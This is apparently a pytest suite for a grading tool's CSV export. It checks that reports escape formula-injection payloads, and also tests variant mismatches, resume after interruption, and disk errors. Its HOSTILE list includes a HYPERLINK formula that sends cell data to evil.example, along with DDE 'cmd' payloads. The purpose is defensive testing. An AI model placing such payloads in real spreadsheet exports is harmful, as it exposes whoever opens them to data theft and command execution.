"""Grading a TA can trust (issue 27): CSV injection, silent key mix-ups, hostile files.

Keys by hand: Hibbeler 12e Example 17.11 (drum and block), alpha = 78.48/6.95 = 11.292
rad/s^2, T = 3.75(11.292)/0.4 = 105.86 N, a = 0.4(11.292) = 4.5168 m/s^2 (equation mode:
all positive).
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from dynsolve.cli import app
from dynsolve.grade.variants import VariantRow, read_roster, read_variants, write_variants
from dynsolve.safe_csv import TRIGGERS, csv_text, escape_cell

ROOT = Path(__file__).parent.parent
DRUM = ROOT / "problems" / "equations" / "fa_hib_drum.dyn"
runner = CliRunner()

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=2+2",
]


def _csv(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


def _dangerous(cell: str) -> bool:
    """A cell a spreadsheet would take for a formula: a trigger first, not a plain number."""
    stripped = cell.lstrip(" ")
    return bool(stripped) and stripped[0] in TRIGGERS and escape_cell(stripped) != stripped


def test_escape_keeps_numbers_and_quotes_formulas() -> None:
    assert escape_cell("-4.52") == "-4.52"  # a negative number stays a number
    assert escape_cell("+1.5e-3") == "+1.5e-3"
    assert escape_cell("-cmd|' /C calc'!A0") == "'-cmd|' /C calc'!A0"
    assert escape_cell("-4.52 m/s^2") == "'-4.52 m/s^2"  # not a plain number: text
    assert escape_cell("=1+1") == "'=1+1"
    assert escape_cell("\r=1+1") == "'\r=1+1"
    # quotes inside a cell are doubled by the csv module, and the text reads back whole
    text = csv_text([['=HYPERLINK("x","y")', 'say "hi"']])
    assert text == '"\'=HYPERLINK(""x"",""y"")","say ""hi"""\r\n'
    assert next(csv.reader(io.StringIO(text))) == ['\'=HYPERLINK("x","y")', 'say "hi"']


def test_reports_never_hold_a_formula(tmp_path: Path) -> None:
    rows = [["student", "alpha", "T", "a"]]
    for i, hostile in enumerate(HOSTILE):
        rows.append([hostile, hostile, "106 N", "-4.52"])  # a hostile id and a hostile cell
        rows.append([f"s{i}", "11.3 rad/s^2", hostile, "4.52 m/s^2"])
    answers = tmp_path / "answers.csv"
    answers.write_text(_csv(rows))
    report, gradebook = tmp_path / "r.csv", tmp_path / "gb.csv"
    result = runner.invoke(
        app, ["grade", str(DRUM), str(answers), "-o", str(report), "--gradebook", str(gradebook)]
    )
    assert result.exit_code == 0, result.output
    for path in (report, gradebook):
        table = list(csv.reader(io.StringIO(path.read_text())))
        assert not [c for row in table for c in row if _dangerous(c)], path
        ids = [row[0] for row in table[1:]]
        for hostile in HOSTILE:  # each hostile id is there, as text behind one quote
            assert "'" + hostile.strip() in ids
    table = list(csv.DictReader(io.StringIO(report.read_text())))
    by_id = {row["student"]: row for row in table}
    assert by_id["'=1+1"]["alpha answer"] == "'=1+1"
    assert by_id["'=1+1"]["alpha verdict"] == "unreadable"
    assert by_id["'=1+1"]["a answer"] == "-4.52"  # a plain number is not quoted


def test_variants_file_escapes_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "v.csv"
    rows = [VariantRow("=1+1", "SI", {"x": "-5 m"}), VariantRow("@SUM(A1)", "SI", {"x": "2 m"})]
    write_variants(path, rows, ("x",))
    text = path.read_text()
    assert "'=1+1,SI,'-5 m" in text and "'@SUM(A1),SI,2 m" in text
    assert read_variants(path) == {"=1+1": {"x": "-5 m"}, "@SUM(A1)": {"x": "2 m"}}
    roster = tmp_path / "roster.csv"
    roster.write_text(text)
    assert read_roster(roster) == ["=1+1", "@SUM(A1)"]


def test_variants_command_escapes_hostile_roster_ids(tmp_path: Path) -> None:
    spec = tmp_path / "p.dyn"
    spec.write_text(
        "given:\n  m = 2 kg\n  F = 10 N\nequations:\n  F = m*a\nfind: a\n"
        "vary:\n  m = 1..3 kg step 1\n"
    )
    roster = tmp_path / "roster.csv"
    roster.write_text(_csv([["student"], ["=1+1"], ["+cmd|' /C calc'!A0"]]))
    out = tmp_path / "variants.csv"
    result = runner.invoke(
        app, ["variants", str(spec), "--roster", str(roster), "--seed", "1", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    table = list(csv.reader(io.StringIO(out.read_text())))
    assert not [c for row in table for c in row if _dangerous(c)]
    assert list(read_variants(out)) == ["=1+1", "+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("cell", ["-4.52", "-1e-07", "-inf", "0", "12"])
def test_plain_numbers_are_left_alone(cell: str) -> None:
    assert csv_text([[cell]]) == cell + "\r\n"  # RFC 4180 line ends


# F = m a with F = 10 N: a = 10/m, so a = 2.5 m/s^2 for m = 4 kg, 2 m/s^2 for m = 5 kg,
# 1 m/s^2 for m = 10 kg; the base problem's m = 2 kg gives 5 m/s^2
NEWTON = "given:\n  m = 2 kg\n  F = 10 N\nequations:\n  F = m*a\nfind: a\n"
VARIANTS = "student,units,m\nu001,SI,4 kg\nu002,SI,5 kg\nu003,SI,10 kg\n"


def _class(tmp_path: Path, answers: str, variants: str = VARIANTS) -> list[str]:
    problem = tmp_path / "p.dyn"
    problem.write_text(NEWTON)
    (tmp_path / "a.csv").write_text(answers)
    (tmp_path / "v.csv").write_text(variants)
    return ["grade", str(problem), str(tmp_path / "a.csv"), "--variants", str(tmp_path / "v.csv")]


def _rows(path: Path) -> dict[str, dict[str, str]]:
    return {r["student"]: r for r in csv.DictReader(io.StringIO(path.read_text()))}


def test_an_answer_id_without_a_variant_is_not_graded_against_the_base(tmp_path: Path) -> None:
    # U002 wrote the base problem's 5 m/s^2; its variant is u002's: not graded, warned, exit 1
    command = _class(tmp_path, "student,a\nu001,2.5 m/s^2\nU002,5 m/s^2\n")
    report = tmp_path / "r.csv"
    result = runner.invoke(app, [*command, "-o", str(report)])
    assert result.exit_code == 1, result.output
    assert "student 'U002' has no row in" in result.output
    assert "(closest: 'u002')" in result.output
    rows = _rows(report)
    assert rows["u001"]["a verdict"] == "correct"
    assert rows["U002"]["a verdict"] == "no variant" and rows["U002"]["score"] == "0.00"
    # the variant students with no row are listed and graded missing
    assert "2 students of" in result.output and "u002, u003" in result.output
    assert rows["u002"]["a verdict"] == rows["u003"]["a verdict"] == "missing"
    assert rows["U002"]["a answer"] == "5 m/s^2"  # shown as written
    assert "not graded (no variant or no key): U002" in result.output


def test_a_whole_class_of_unknown_ids_is_quick_and_brief(tmp_path: Path) -> None:
    import time

    # 3,000 variants s0000..s2999; the answers file spells every id in capitals
    variants = "student,units,m\n" + "".join(f"s{i:04d},SI,4 kg\n" for i in range(3000))
    answers = "student,a\n" + "".join(f"S{i:04d},2.5 m/s^2\n" for i in range(3000))
    command = _class(tmp_path, answers, variants)
    start = time.perf_counter()
    result = runner.invoke(app, command)
    assert time.perf_counter() - start < 60
    assert result.exit_code == 1, result.output[-2000:]
    assert (
        "student 'S0000' has no row in" in result.output and "(closest: 's0000')" in result.output
    )
    assert "2990 more students have no row" in result.output
    assert "3000 students of" in result.output  # none of the variant students answered
    assert result.output.count("warning:") < 15


def test_a_twin_answers_for_its_student(tmp_path: Path) -> None:
    variants = VARIANTS + "u001@US,US,0.2741 slug\n"
    command = _class(
        tmp_path, "student,a\nu001@US,8.2 ft/s^2\nu002,2 m/s^2\nu003,1 m/s^2\n", variants
    )
    result = runner.invoke(app, [*command, "--json", str(tmp_path / "r.json")])
    assert result.exit_code == 0, result.output
    assert "have no row" not in result.output  # u001 answered through its twin


def test_a_bad_variants_cell_is_a_positioned_error(tmp_path: Path) -> None:
    command = _class(tmp_path, "student,a\nu001,2.5 m/s^2\n", VARIANTS.replace("5 kg", "5 kgg"))
    result = runner.invoke(app, command)
    assert result.exit_code == 2, result.output
    assert "v.csv:3:9:" in result.output and "u002" in result.output  # line 3, column 9
    command = _class(tmp_path, "student,a\nu001,2.5 m/s^2\n", VARIANTS.replace("10 kg", "10 m"))
    result = runner.invoke(app, command)
    assert result.exit_code == 2 and "v.csv:4:9:" in result.output, result.output
    command = _class(tmp_path, "student,a\nu001,2.5 m/s^2\n", "student,units,mass\nu001,SI,4 kg\n")
    result = runner.invoke(app, command)
    assert result.exit_code == 2 and "v.csv:1:15:" in result.output, result.output


def test_two_outputs_on_one_path_are_refused(tmp_path: Path) -> None:
    command = _class(tmp_path, "student,a\nu001,2.5 m/s^2\n")
    report = tmp_path / "r.csv"
    result = runner.invoke(app, [*command, "-o", str(report), "--json", str(report)])
    assert result.exit_code == 2 and "one report would overwrite the other" in result.output
    journal = tmp_path / "r.csv.journal"
    result = runner.invoke(app, [*command, "-o", str(report), "--json", str(journal)])
    assert result.exit_code == 2 and "journal" in result.output
    assert not report.exists()


def test_a_second_run_on_one_report_is_refused(tmp_path: Path) -> None:
    from dynsolve.grade.journal import Journal

    command = _class(tmp_path, "student,a\nu001,2.5 m/s^2\n")
    report = tmp_path / "r.csv"
    with Journal.open(tmp_path / "r.csv.journal") as running:  # another run holds the lock
        running.start("stamp", resume=False)
        result = runner.invoke(app, [*command, "-o", str(report)])
        assert result.exit_code == 2, result.output
        assert "another 'dynsolve grade' is writing" in result.output
        assert (tmp_path / "r.csv.journal").read_text() == '{"fingerprint": "stamp"}\n'


def _interrupt_after(monkeypatch: pytest.MonkeyPatch, rows: int) -> None:
    """Ctrl-C while grading row ``rows + 1``."""
    from dynsolve.grade import run

    real, calls = run.grade_row, []

    def grade_row(*args: object, **kwargs: object) -> object:
        calls.append(1)
        if len(calls) > rows:
            raise KeyboardInterrupt
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(run, "grade_row", grade_row)


ANSWERS = "student,a\nu001,2.5 m/s^2\nu002,2.1 m/s^2\nu003,10 m/s^2\n"


def test_ctrl_c_says_how_to_resume_and_a_rerun_does_not_truncate(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    command = _class(tmp_path, ANSWERS)
    clean, report = tmp_path / "clean.csv", tmp_path / "r.csv"
    assert runner.invoke(app, [*command, "-o", str(clean)]).exit_code == 0
    with monkeypatch.context() as patch:
        _interrupt_after(patch, 2)
        result = runner.invoke(app, [*command, "-o", str(report)])
    assert result.exit_code == 130, result.output
    assert "--resume" in result.output
    journal = tmp_path / "r.csv.journal"
    kept = journal.read_text()
    assert kept.count("\n") == 3  # the fingerprint and 2 rows
    result = runner.invoke(app, [*command, "-o", str(report)])  # no --resume: refused
    assert result.exit_code == 2 and "interrupted run" in result.output
    assert "--resume" in result.output and "--fresh" in result.output
    assert journal.read_text() == kept
    result = runner.invoke(app, [*command, "-o", str(report), "--resume"])
    assert result.exit_code == 0, result.output
    assert report.read_bytes() == clean.read_bytes() and not journal.exists()


@pytest.mark.parametrize("change", ["variants", "--no-diagnose", "--atol"])
def test_resume_refuses_a_journal_of_other_variants_or_options(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, change: str
) -> None:
    command = _class(tmp_path, ANSWERS)
    report = tmp_path / "r.csv"
    with monkeypatch.context() as patch:
        _interrupt_after(patch, 1)
        assert runner.invoke(app, [*command, "-o", str(report)]).exit_code == 130
    extra: list[str] = []
    if change == "variants":
        (tmp_path / "v.csv").write_text(VARIANTS.replace("4 kg", "8 kg"))
    elif change == "--no-diagnose":
        extra = ["--no-diagnose"]
    else:
        extra = ["--atol", "0.5 m/s^2"]
    result = runner.invoke(app, [*command, "-o", str(report), "--resume", *extra])
    assert result.exit_code == 2 and "journal of another run" in result.output, result.output
    result = runner.invoke(app, [*command, "-o", str(report), "--fresh", *extra])
    assert result.exit_code == 0, result.output


def test_a_journal_write_error_is_an_error_that_keeps_the_rows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    real, rows = os.write, []

    def write(descriptor: int, data: bytes) -> int:  # the disk fills after two rows
        if b'"student"' in bytes(data):
            rows.append(1)
            if len(rows) > 2:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real(descriptor, data)

    command = _class(tmp_path, ANSWERS)
    report = tmp_path / "r.csv"
    with monkeypatch.context() as patch:
        patch.setattr(os, "write", write)
        result = runner.invoke(app, [*command, "-o", str(report)])
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "no space left on device" in result.output and "2 rows" in result.output
    assert "--resume" in result.output
    journal = tmp_path / "r.csv.journal"
    assert journal.read_text().count("\n") == 3  # the fingerprint and the 2 rows written
    result = runner.invoke(app, [*command, "-o", str(report), "--resume"])
    assert result.exit_code == 0, result.output
    assert _rows(report)["u003"]["a verdict"] == "wrong"


@pytest.mark.skipif(not hasattr(os, "fork"), reason="RLIMIT_FSIZE is POSIX")
def test_a_file_size_limit_is_a_clear_error_not_a_traceback(tmp_path: Path) -> None:
    import resource
    import subprocess
    import sys

    rows = ["student,alpha,T,a"] + [f"s{i:03d},11.3 rad/s^2,106 N,4.52 m/s^2" for i in range(300)]
    answers = tmp_path / "a.csv"
    answers.write_text("\n".join(rows) + "\n")
    report = tmp_path / "r.csv"
    command = [sys.executable, "-m", "dynsolve", "grade", str(DRUM), str(answers)]

    def limit() -> None:  # writes past 20,000 bytes fail with EFBIG (Python ignores SIGXFSZ)
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))

    done = subprocess.run(
        [*command, "-o", str(report), "--no-diagnose"],
        preexec_fn=limit,
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    assert done.returncode == 2, done.stderr[-2000:]
    assert "Traceback" not in done.stderr and "file too large" in done.stderr
    assert "rows graded so far are kept" in done.stderr and "--resume" in done.stderr
    journal = tmp_path / "r.csv.journal"
    kept = journal.read_text().count("\n") - 1
    assert 0 < kept < 300
    resumed = subprocess.run(
        [*command, "-o", str(report), "--no-diagnose", "--resume"],
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    assert resumed.returncode == 0, resumed.stderr[-2000:]
    assert report.read_text().count("\n") == 301 and not journal.exists()


def test_a_hundred_thousand_columns_are_a_few_warning_lines(tmp_path: Path) -> None:
    extra = [f"c{i}" for i in range(100_000)]
    answers = tmp_path / "wide.csv"
    answers.write_text(
        ",".join(["student", "alpha", "T", "a", *extra])
        + "\n"
        + ",".join(["s1", "11.3 rad/s^2", "106 N", "4.52 m/s^2", *["1"] * len(extra)])
        + "\n"
    )
    result = runner.invoke(app, ["grade", str(DRUM), str(answers)])
    assert result.exit_code == 0, result.output[:2000]
    warnings = [line for line in result.output.splitlines() if line.startswith("warning:")]
    # one line names the ignored columns and counts them (it printed 100,000 lines, 14-28 s)
    assert len(warnings) == 1, warnings[:8]
    assert "100000 columns are not finds" in warnings[0] and "99992 more" in warnings[0]


def test_a_nul_byte_is_refused_with_its_position(tmp_path: Path) -> None:
    answers = tmp_path / "a.csv"
    answers.write_text("student,alpha\ns1,11.3 rad/s^2\ns2,11\x00.3 rad/s^2\n")
    report = tmp_path / "r.csv"
    result = runner.invoke(app, ["grade", str(DRUM), str(answers), "-o", str(report)])
    assert result.exit_code == 2, result.output
    assert "a.csv:3:6:" in result.output and "NUL" in result.output
    assert not report.exists()


def test_a_tab_around_an_id_is_said(tmp_path: Path) -> None:
    answers = tmp_path / "a.csv"
    answers.write_text("student,alpha\n\ts1,11.3 rad/s^2\ns2 ,11.3 rad/s^2\n")
    js = tmp_path / "r.json"
    result = runner.invoke(app, ["grade", str(DRUM), str(answers), "--json", str(js)])
    assert result.exit_code == 0, result.output
    assert "student id '\\ts1' has a tab or other blank around it; read as 's1'" in result.output
    assert "'s2 '" not in result.output  # plain spaces are trimmed quietly, as always


def test_each_row_shows_what_was_expected(tmp_path: Path) -> None:
    # Hibbeler 17.11 by hand (module docstring): alpha = 78.48/6.95 = 11.29209 rad/s^2,
    # T = 3.75 alpha/0.4 = 105.8633 N, a = 0.4 alpha = 4.516835 m/s^2
    answers = tmp_path / "a.csv"
    answers.write_text("student,alpha,T,a\ns1,12.6 rad/s^2,106 N,4.52 m/s^2\n")
    report, js = tmp_path / "r.csv", tmp_path / "r.json"
    result = runner.invoke(
        app, ["grade", str(DRUM), str(answers), "-o", str(report), "--json", str(js)]
    )
    assert result.exit_code == 0, result.output
    row = _rows(report)["s1"]
    assert "givens" not in row  # no variants: one key for all
    assert float(row["alpha expected"]) == pytest.approx(11.29209, rel=1e-5)
    assert row["alpha expected unit"] == "rad/s^2" and row["alpha verdict"] == "wrong"
    assert float(row["T expected"]) == pytest.approx(105.8633, rel=1e-5)
    assert row["T expected unit"] == "N"
    assert float(row["a expected"]) == pytest.approx(4.516835, rel=1e-5)
    import json

    part = json.loads(js.read_text())["students"][0]["parts"]["alpha"]
    assert part["expected"] == pytest.approx(11.29209, rel=1e-5)
    assert part["expected_unit"] == "rad/s^2"


def test_each_row_shows_the_students_own_key_and_givens(tmp_path: Path) -> None:
    # a = 10 N / m: 2.5 m/s^2 for u001 (m = 4 kg), 1 m/s^2 for u003 (m = 10 kg); u002 wrote
    # 2.1 where 10/5 = 2 is expected
    command = _class(tmp_path, "student,a\nu001,2.5 m/s^2\nu002,2.1 m/s^2\nW9,1 m/s^2\n")
    report, js = tmp_path / "r.csv", tmp_path / "r.json"
    result = runner.invoke(app, [*command, "-o", str(report), "--json", str(js)])
    assert result.exit_code == 1, result.output  # W9 has no variant
    rows = _rows(report)
    assert rows["u001"]["givens"] == "m = 4 kg"
    assert (rows["u001"]["a expected"], rows["u001"]["a expected unit"]) == ("2.5", "m/s^2")
    assert rows["u002"]["a expected"] == "2" and rows["u002"]["a verdict"] == "wrong"
    assert rows["u003"]["givens"] == "m = 10 kg" and rows["u003"]["a expected"] == "1"
    assert rows["u003"]["a verdict"] == "missing"
    assert rows["W9"]["givens"] == "" and rows["W9"]["a expected"] == ""
    import json

    students = {s["student"]: s for s in json.loads(js.read_text())["students"]}
    assert students["u002"]["givens"] == {"m": "5 kg"}
    assert students["u002"]["parts"]["a"]["expected"] == 2.0


def test_a_clockwise_key_is_shown_signed(tmp_path: Path) -> None:
    # the scene drum turns clockwise: alpha = -11.292 rad/s^2 by the convention (ccw positive)
    from dynsolve.grade.command import GradeRequest, grade

    scene = ROOT / "problems" / "seed" / "fa_hib_drum.dyn"
    (tmp_path / "a.csv").write_text("student,alpha\ns1,11.3 rad/s^2 cw\n")
    run = grade(GradeRequest(scene, tmp_path / "a.csv"))
    part = run.results[0].parts["alpha"]
    assert part["expected"] == pytest.approx(-11.292, rel=1e-4)
    assert (part["expected_unit"], part["verdict"]) == ("rad/s^2", "correct")


def test_a_real_sigint_exits_130_and_says_resume(tmp_path: Path) -> None:
    import signal
    import subprocess
    import sys
    import time

    rows = ["student,alpha,T,a"]
    rows += [f"s{i:05d},{11.29 + i * 1e-7:.7f} rad/s^2,106 N,4.52 m/s^2" for i in range(20_000)]
    answers = tmp_path / "a.csv"
    answers.write_text("\n".join(rows) + "\n")
    report, journal = tmp_path / "r.csv", tmp_path / "r.csv.journal"
    command = [sys.executable, "-m", "dynsolve", "grade", str(DRUM), str(answers)]
    process = subprocess.Popen(
        [*command, "-o", str(report), "--no-diagnose"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
    )
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and process.poll() is None:
        if journal.exists() and journal.stat().st_size > 2_000:
            break
        time.sleep(0.002)
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 130, stderr[-2000:]
    assert f"kept in {journal}" in stderr and "--resume" in stderr
    assert "Traceback" not in stderr and not report.exists()
    assert journal.read_text().count("\n") > 1
